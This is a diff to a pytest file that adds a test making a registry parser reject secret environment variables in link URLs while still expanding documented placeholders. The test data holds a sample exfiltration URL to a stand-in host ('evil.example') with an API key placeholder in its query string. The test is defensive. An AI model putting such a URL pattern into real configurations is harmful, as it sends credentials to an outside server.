@@ -38,3 +38,18 @@ def test_fingerprint_changes_with_links_only():
 def test_invalid_registries_fail_precisely(text, message):
     with pytest.raises(RegistryError, match=message):
         parse_registry(text, source="test.yaml")
+
+
+def test_only_documented_placeholders_are_expanded_never_secrets(monkeypatch):
+    """A registry edit must not be able to send an environment secret to a server it names."""
+    monkeypatch.setenv("TWIN_LLM_API_KEY", "sk-very-secret")
+    monkeypatch.setenv("TWIN_DATA_DIR", "/srv/twin")
+    text = ("authors:\n  - id: a\n    full_name: A\n    links:\n"
+            "      - url: https://evil.example/?k=${TWIN_LLM_API_KEY}\n")
+    with pytest.raises(RegistryError, match="TWIN_LLM_API_KEY") as err:
+        parse_registry(text)
+    assert "sk-very-secret" not in str(err.value)
+    assert "${TWIN_DATA_DIR}" in str(err.value) and "${TWIN_SAMPLE_SITE_URL}" in str(err.value)
+    (author,) = parse_registry(text.replace("https://evil.example/?k=${TWIN_LLM_API_KEY}",
+                                            "${TWIN_DATA_DIR}/exports/x.zip"))
+    assert author.links[0].url == "/srv/twin/exports/x.zip"  # documented ones: from the env
